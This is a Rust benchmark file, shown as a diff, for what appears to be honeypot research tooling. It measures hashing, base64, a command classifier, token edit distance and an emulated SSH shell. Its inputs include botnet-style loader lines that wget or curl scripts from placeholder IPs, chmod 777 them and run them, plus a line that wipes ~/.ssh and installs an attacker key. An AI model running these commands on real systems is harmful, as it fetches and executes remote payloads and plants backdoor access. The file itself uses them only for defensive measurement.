@@ -1,0 +1,162 @@
+//! Microbenchmarks for the substrate crates: hash/codec primitives, the
+//! regex engine on Table 1 workloads, token-DLD, the shell emulator and a
+//! full SSH wire dialogue.
+
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+use honeylab_core::classify::Classifier;
+use honeylab_core::{dld, tokens};
+use std::hint::black_box;
+
+fn bench_sha256(c: &mut Criterion) {
+    let mut g = c.benchmark_group("sha256");
+    for size in [64usize, 1024, 65_536] {
+        let data = vec![0xabu8; size];
+        g.throughput(Throughput::Bytes(size as u64));
+        g.bench_function(format!("digest_{size}B"), |b| {
+            b.iter(|| black_box(hutil::Sha256::digest(&data)))
+        });
+    }
+    g.finish();
+}
+
+fn bench_base64(c: &mut Criterion) {
+    let script = botnet::mdrfckr_b64_scripts()[0].clone();
+    let encoded = hutil::base64::encode(script.as_bytes());
+    c.bench_function("base64_roundtrip_payload", |b| {
+        b.iter(|| {
+            let e = hutil::base64::encode(script.as_bytes());
+            black_box(hutil::base64::decode(&e).unwrap())
+        })
+    });
+    c.bench_function("base64_decode_payload", |b| {
+        b.iter(|| black_box(hutil::base64::decode(&encoded).unwrap()))
+    });
+}
+
+fn bench_regex_engine(c: &mut Criterion) {
+    let cl = Classifier::table1();
+    let typical = "cd /tmp || cd /var/run; tftp; wget http://198.51.100.4/mirai-3.sh; chmod 777 mirai-3.sh; sh mirai-3.sh; /bin/busybox XQKPD";
+    let curl_line = "curl https://203.0.113.7/ -s -X GET --max-redirs 5 --cookie 'k=v' --raw";
+    let huge = vec![curl_line; 100].join("\n");
+    c.bench_function("classify_typical_loader", |b| {
+        b.iter(|| black_box(cl.classify(typical)))
+    });
+    c.bench_function("classify_100_command_session", |b| {
+        b.iter(|| black_box(cl.classify(&huge)))
+    });
+    let conj = sregex::Regex::new(r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)").unwrap();
+    c.bench_function("lookahead_conjunction_miss_15kb", |b| {
+        b.iter(|| black_box(conj.is_match(&huge)))
+    });
+    let lit = sregex::Regex::new("mdrfckr").unwrap();
+    c.bench_function("literal_miss_15kb", |b| b.iter(|| black_box(lit.is_match(&huge))));
+}
+
+fn bench_dld(c: &mut Criterion) {
+    let a = tokens::signature(
+        "cd /tmp; wget http://198.51.100.2/mirai-17.sh; chmod 777 mirai-17.sh; sh mirai-17.sh; rm -rf mirai-17.sh",
+    );
+    let b2 = tokens::signature(
+        "mkdir /var/run/.x; cd /var/run/.x; curl -O http://203.0.113.4/gafgyt-9.sh; sh gafgyt-9.sh",
+    );
+    c.bench_function("token_dld_typical_pair", |b| {
+        b.iter(|| black_box(dld::normalized_dld(&a, &b2)))
+    });
+    c.bench_function("tokenize_and_sign", |b| {
+        b.iter(|| {
+            black_box(tokens::signature(
+                "cd /tmp; wget http://198.51.100.2/mirai-17.sh; sh mirai-17.sh",
+            ))
+        })
+    });
+}
+
+fn bench_shell(c: &mut Criterion) {
+    let store = |uri: &str| {
+        (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec())
+    };
+    c.bench_function("shell_loader_session", |b| {
+        b.iter(|| {
+            let mut sh = honeypot::Shell::new(&store);
+            sh.exec_line("cd /tmp; wget http://203.0.113.5/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh");
+            black_box(sh.file_events().len())
+        })
+    });
+    c.bench_function("shell_mdrfckr_session", |b| {
+        let line = format!(
+            r#"cd ~; chattr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{}">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#,
+            botnet::MDRFCKR_KEY_LINE
+        );
+        b.iter(|| {
+            let mut sh = honeypot::Shell::new(&honeypot::shell::NullStore);
+            sh.exec_line(&line);
+            black_box(sh.file_events().len())
+        })
+    });
+}
+
+fn bench_wire_dialogue(c: &mut Criterion) {
+    use honeypot::wire::{run_wire_session, WireSessionMeta};
+    let store = |uri: &str| {
+        (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec())
+    };
+    let meta = WireSessionMeta {
+        honeypot_id: 1,
+        honeypot_ip: netsim::Ipv4Addr(0x0a000001),
+        client_ip: netsim::Ipv4Addr(0x0a000002),
+        client_port: 40000,
+        start: hutil::Date::new(2022, 5, 1).at(0, 0, 0),
+    };
+    c.bench_function("ssh_wire_full_dialogue", |b| {
+        b.iter(|| {
+            let script = sshwire::ClientScript::new(
+                "root",
+                &["root", "admin"],
+                &["uname -a", "cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh"],
+            );
+            black_box(
+                run_wire_session(&meta, script, honeypot::AuthPolicy::default(), &store)
+                    .unwrap()
+                    .1,
+            )
+        })
+    });
+}
+
+fn bench_session_sim(c: &mut Criterion) {
+    use honeypot::{SessionInput, SessionSim};
+    let store = honeypot::shell::NullStore;
+    let sim = SessionSim::new(
+        honeypot::AuthPolicy::default(),
+        &store,
+        netsim::latency::LatencyModel::new(1),
+    );
+    c.bench_function("bulk_session_scout", |b| {
+        b.iter(|| {
+            black_box(sim.run(SessionInput {
+                honeypot_id: 0,
+                honeypot_ip: netsim::Ipv4Addr(1),
+                client_ip: netsim::Ipv4Addr(2),
+                client_port: 4000,
+                protocol: honeypot::Protocol::Ssh,
+                start: hutil::Date::new(2022, 5, 1).at(0, 0, 0),
+                client_version: Some("SSH-2.0-Go".into()),
+                logins: vec![("root".into(), "root".into())],
+                commands: vec![],
+                idle_out: false,
+            }))
+        })
+    });
+}
+
+criterion_group!(
+    substrates,
+    bench_sha256,
+    bench_base64,
+    bench_regex_engine,
+    bench_dld,
+    bench_shell,
+    bench_wire_dialogue,
+    bench_session_sim,
+);
+criterion_main!(substrates);
